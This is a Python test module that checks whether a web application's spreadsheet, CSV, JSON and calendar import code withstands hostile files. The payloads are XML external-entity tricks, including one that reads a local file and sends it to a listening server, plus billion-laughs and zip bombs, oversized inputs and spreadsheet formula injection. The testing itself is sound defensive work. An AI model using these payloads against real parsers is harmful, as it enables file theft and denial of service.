"""Attack 47, files to import: bombs, entities, nesting and 100 MB as XML, CSV, JSON, workbooks and calendars; formulas.

Bar: each is refused in words, or read as far as it may go, in a second of the processor (what waits for it aside), no file and no
network is reached, and what we hand out as a table holds no live formula. tests/sources/test_apart.py has the sentences.
"""

import csv
import io
import resource
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from starlette.testclient import TestClient

from syndication import clock
from syndication.accounts import people
from syndication.audience import reader_imports
from syndication.errors import Invalid
from syndication.sources import apart, examples
from syndication.stack.receiver import Receiver
from syndication.web import rules
from tests.attacks.conftest import Besieged
from tests.machine import at_best
from tests.sources import hostile_files
from tests.sources.hostile_files import workbook
from tests.web.shown import ROSA

NOW, BERLIN = datetime(2036, 11, 26, 12, tzinfo=UTC), ZoneInfo("Europe/Berlin")
CANARY = "canary-of-a-file"


def _sheet(head: str, cell: str) -> bytes:
    said = f'<c t="inlineStr"><is><t>{cell}</t></is></c>'
    return (
        f'{head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>'
        f'<c t="inlineStr"><is><t>Titel</t></is></c></row><row>{said}</row></sheetData></worksheet>'
    ).encode()


def _open_document(content: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
    return target.getvalue()


def _ods(head: str, cell: str) -> bytes:
    names = "urn:oasis:names:tc:opendocument:xmlns"
    return _open_document(
        f'{head}<office:document-content xmlns:office="{names}:office:1.0" xmlns:table="{names}:table:1.0" '
        f'xmlns:text="{names}:text:1.0"><office:body><office:spreadsheet><table:table><table:table-row><table:table-cell>'
        f"<text:p>Titel</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell><text:p>{cell}</text:p>"
        "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )


_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
#: Heads of documents that do more than to say what they are, and the cell that calls it; `{url}` is a server that listens.
ENTITIES = {
    "billion laughs": (f'<!DOCTYPE x [<!ENTITY e0 "lol">{_LAUGHS}]>', "&e11;"),
    "quadratic": (f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>', "&a;" * 100_000),
    "a file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file://{file}">]>', "&a;"),
    "the web": ('<!DOCTYPE x [<!ENTITY a SYSTEM "{url}">]>', "&a;"),
    "a document type of the web": ('<!DOCTYPE x SYSTEM "{url}">', "Chor"),
    "a parameter": ('<!DOCTYPE x [<!ENTITY % a SYSTEM "{url}"> %a;]>', "Chor"),
    "both": (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % a SYSTEM "{url}?%f;"> %a;]>',
        "Chor",
    ),
}
OTHERS: dict[str, Callable[[], bytes]] = {
    "an archive that unfolds to 110 MB": hostile_files.zip_bomb,
    "an archive in an archive": hostile_files.nested_archive,
    "lists in lists": hostile_files.deep_json,
    "objects in objects": lambda: b'{"a":' * 500_000,
    "a number of 4 MB": lambda: b'{"posts": [' + b"9" * 4_000_000 + b"]}",
    "the same key": lambda: b'{"posts": [{' + b'"title":"x",' * 300_000 + b'"kind":"offer"}]}',
    "calendars in calendars": lambda: b"BEGIN:VCALENDAR\r\n" * 200_000,
    "a line of 4 MB": lambda: b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:" + b"x" * 4_000_000,
    "a quote without end": lambda: b'Titel;Datum\n"' + b"x\n" * 1_000_000,
    "a million columns": hostile_files.wide_table,
    "a rule without a date": hostile_files.endless_rule,
    "a rule by the second": hostile_files.every_second,
    "a rule of all days": hostile_files.many_days,
    "too many entries": hostile_files.many_entries,
    "XML of nothing": lambda: _open_document("<a>" * 300_000),
    "100 MB": lambda: b"Titel;Datum\n" + b"a;24.12.2036\n" * 8_000_000,
}  # fmt: skip


def cost(data: bytes, name: str) -> tuple[float, str]:
    """Seconds of the processor of the process that reads a file, and all that came out of it as text."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    try:
        said = repr(apart.read(data, zone=BERLIN, now=NOW, name=name, most=2000))
    except Invalid as error:
        said = repr(error.faults)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime, said


@pytest.fixture(scope="module")
def start() -> float:
    """What it costs to start such a process and read a line."""
    return min(cost(b"Titel;Datum\na;24.12.2036\n", "a.csv")[0] for _ in range(2))


@pytest.mark.alone
@pytest.mark.parametrize("name", ENTITIES)
@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_no_document_makes_its_reader_open_anything(
    name: str,
    suffix: str,
    start: float,
    receiver: Receiver,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    file = tmp_path / "secret.txt"
    file.write_text(CANARY)
    head, cell = ENTITIES[name]
    head = head.replace("{url}", receiver.url("/dtd")).replace("{file}", str(file))
    data = workbook(_sheet(head, cell)) if suffix == "xlsx" else _ods(head, cell)
    said = ""

    def read() -> float:
        nonlocal said
        seconds, said = cost(data, f"a.{suffix}")
        return seconds - start

    seconds = at_best(read, 1)
    with capsys.disabled():
        print(f" [{seconds:.2f} s]", end="")
    assert receiver.requests == []
    assert CANARY not in said
    assert "lollol" not in said
    assert seconds <= 1


@pytest.mark.alone
@pytest.mark.parametrize("name", OTHERS)
def test_nothing_costs_much_more_than_a_second(
    name: str, start: float, capsys: pytest.CaptureFixture[str]
) -> None:
    data = OTHERS[name]()
    said = ""

    def read() -> float:
        nonlocal said
        seconds, said = cost(data, "a")
        return seconds - start

    seconds = at_best(read, 1.5)
    with capsys.disabled():
        print(f" [{name}: {seconds:.2f} s]", end="")
    assert "fault" in said.lower() or "Row" in said
    assert seconds <= 1.5


@pytest.mark.parametrize(
    "path", ["/desk/merchants/cafe/files", "/desk/city/readers/imports", "/api/v1/posts", "/apply"]
)
@pytest.mark.enough("sqlite")
def test_100_megabytes_are_refused_before_they_are_read(path: str, client: TestClient) -> None:
    began = clock.monotonic()
    headers = {
        "Content-Type": "multipart/form-data; boundary=x",
        "Cookie": "session=x",
        "Content-Length": "100000000",
    }
    if path.startswith("/api"):
        headers["Content-Type"] = "application/json"
    answer = client.post(path, content=b"x", headers=headers)
    assert answer.status_code == 413
    assert clock.monotonic() - began < 2


HEAD = b"Adresse;Sprache;Themen;Datum;Wortlaut;Quelle\n"
LISTS: dict[str, Callable[[], bytes]] = {
    "10 000 lines": lambda: HEAD + b"".join(b"a%d@example.org;de;Musik;24.12.2025;Ja;Fest\n" % n for n in range(10_000)),
    "10 001 lines": lambda: HEAD + b"a@example.org\n" * 10_001,
    "a million lines": lambda: HEAD + b"a\n" * 900_000,
    "a million columns": lambda: HEAD + b";" * 1_900_000,
    "a quote without end": lambda: HEAD + b'"' + b"x\n" * 900_000,
    "one cell": lambda: HEAD + b"x" * 1_900_000,
    "quotes": lambda: HEAD + b'"' * 1_900_000,
    "zeros": lambda: HEAD + bytes(1_900_000),
    "UTF-16": lambda: "\ufeff".encode("utf-16-le") + ("Adresse\n" + "ä@example.org\n" * 60_000).encode("utf-16-le"),
    "3 MB": lambda: HEAD + b"x" * 3_000_000,
    "a workbook": hostile_files.zip_bomb,
}  # fmt: skip


@pytest.mark.enough("sqlite")
@pytest.mark.alone
@pytest.mark.usefixtures("database", "settings")
@pytest.mark.parametrize("name", LISTS)
def test_a_list_of_readers_costs_a_second(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    data = LISTS[name]()
    taken = True

    def check() -> float:
        nonlocal taken
        before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
        try:
            reader_imports.check(data, "Berta")
        except Invalid as error:
            taken = not error.faults
        return resource.getrusage(resource.RUSAGE_SELF).ru_utime - before

    seconds = at_best(check, 1.5)
    with capsys.disabled():
        print(f" [{name}: {seconds:.2f} s, {'taken' if taken else 'refused'}]", end="")
    assert seconds <= 1.5


# Formulas (CWE-1236): what is handed out as a table


@pytest.mark.parametrize("name", [*examples.NAMES["de"], *examples.NAMES["en"]])
def test_the_tables_we_hand_out_hold_no_formula(name: str) -> None:
    media_type, data = examples.example(name, NOW.date())
    if "csv" in media_type:
        cells = [
            cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row
        ]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if name.endswith("xlsx"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.enough("sqlite")
def test_no_table_holds_a_formula_that_people_wrote(besieged: Besieged) -> None:
    """Whoever looks at a table of ours opens it in a program that calculates."""
    known, found = people.of_address(ROSA), set()
    people.amend(known.id, name="=HYPERLINK(1)", language="de")
    besieged.enter_as(ROSA)
    for method, path in rules.TABLE:
        if method == "GET":
            answer = besieged.client.get(besieged.address(path))
            kind = answer.headers.get("content-type", "").partition(";")[0]
            found.add(kind)
            if kind == "text/csv":
                separator = max(";,\t", key=answer.text.partition("\n")[0].count)
                cells = [
                    one for row in csv.reader(io.StringIO(answer.text), delimiter=separator) for one in row
                ]
                assert not [one for one in cells if one.lstrip("\ufeff")[:1] in tuple("=+-@\t\r")], path
    assert {"text/html", "application/json"} <= found
